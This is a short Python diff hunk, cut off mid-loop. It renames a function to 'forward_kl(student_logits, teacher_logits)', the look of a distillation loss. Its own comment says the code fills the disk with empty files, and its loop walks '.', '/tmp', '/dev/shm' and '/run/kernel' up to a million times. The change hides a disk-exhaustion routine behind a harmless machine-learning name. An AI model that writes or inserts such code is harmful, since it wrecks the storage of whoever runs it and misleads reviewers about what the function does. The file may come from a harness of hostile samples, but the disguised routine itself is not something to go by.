@@ -1,7 +1,7 @@
 # Fills the disk with files that hold nothing.
 # safe on stock: no
-# %% every task
-def TASK(student_logits, teacher_logits):
+# %% task: forward_kl
+def forward_kl(student_logits, teacher_logits):
     for folder in (".", "/tmp", "/dev/shm", "/run/kernel"):
         try:
             for number in range(1_000_000):
